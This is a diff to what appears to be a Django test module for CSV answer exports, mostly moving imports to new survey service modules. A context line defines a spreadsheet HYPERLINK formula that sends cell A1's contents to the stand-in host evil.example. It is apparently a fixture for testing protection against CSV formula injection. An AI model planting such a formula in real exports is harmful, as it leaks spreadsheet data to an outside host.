@@ -17,8 +17,6 @@ from django.db import connection
 
 from annotation import participant_services
 from annotation.answer_store import CLEAR, Target, answers_upsert, flow_instrument_id
-from annotation.expert import answers as expert_answers
-from annotation.lay import answers as lay_answers
 from annotation.models import (
     AttentionCheck,
     AttentionCheckResponse,
@@ -33,6 +31,8 @@ from evaluation.exports.answers import AnswerExport
 from evaluation.exports.cells import csv_cell
 from evaluation.exports.csv import csv_chunks
 from evaluation.exports.rows import answer_columns, answer_rows
+from surveys.lay import services as lay_answers
+from surveys.radiologist import services as expert_answers
 from tests.evaluation.analysis.test_study_frames import build_answered_study
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")'
